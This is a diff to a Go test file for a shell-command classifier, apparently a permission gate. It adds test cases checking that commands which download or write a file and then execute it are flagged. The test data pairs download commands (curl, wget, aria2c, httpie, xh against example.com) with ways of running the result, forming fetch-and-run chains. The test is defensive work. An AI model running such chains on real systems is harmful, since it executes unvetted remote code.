@@ -35,6 +35,7 @@ func TestBlindSpotRunsWhatItCannotRead(t *testing.T) {
 		"gzip -dc payload.gz > f", "openssl enc -d -base64 -in p.b64 -out f", "curl -so f http://example.com/x",
 		"wget -qO f http://example.com/x", "rev <<< toober | tee f >/dev/null", "rev <<< toober | sponge f",
 		"rev <<< toober | dd of=f", "cp /dev/stdin f <<< x", "{ echo a; rev <<< b; } > f", "base64 -d t.b64 > f",
+		"yq -i '.a = 1' f", "http -o f http://example.com/x", "xh --output=f http://example.com/x",
 	} {
 		for _, r := range []string{"./f", ". ./f", "source f", "exec ./f", "env ./f", "nohup ./f &", "sudo ./f",
 			"timeout 5 ./f", "find . -name f -exec ./f \\;", "BASH_ENV=./f bash -c true", "make -f f"} {
@@ -59,7 +60,7 @@ func TestBlindSpotRunsWhatItCannotRead(t *testing.T) {
 		"bzr pull", "cvs update", "rclone copy remote:x .", "aws s3 cp s3://b/run.sh ./run.sh", "aws s3 sync s3://b/ .",
 		"gsutil cp gs://b/tool .", "s3cmd get s3://b/tool", "mc cp play/b/tool .", "smbclient //h/s -c 'get tool'",
 		"unpackit payload.tgz", "find /srv -name tool -exec cp {} . \\;", "find /srv -name tool | xargs cp -t .",
-		"uudecode payload.uu", "unshar payload.shar",
+		"uudecode payload.uu", "unshar payload.shar", "aria2c http://example.com/run.sh", "http -d http://example.com/run.sh",
 	} {
 		for _, r := range []string{"./run.sh", "./tool", "make", "npm test"} {
 			cmds = append(cmds, w+" && "+r)
@@ -107,6 +108,8 @@ func TestUnreadRunsNotRaised(t *testing.T) {
 		// A program the classifier does not know, then others.
 		{"unknown", "mytool status; ls -la /srv", TierMutate},
 		{"uudecode -o", "uudecode -o /dev/stdout x.uu | grep x", TierMutate},
+		{"yq -i", "yq -i '.a = 1' c.yaml && ./run.sh", TierMutate},
+		{"http -o", "http -o page.html http://example.com/ && ./run.sh", TierMutate},
 	})
 	// A copy of a file warden reads on this host is that file.
 	if v := p.Evaluate(Input{Command: "cp run.sh run2.sh && ./run2.sh"}); v.Tier != TierMutate || v.Denied {
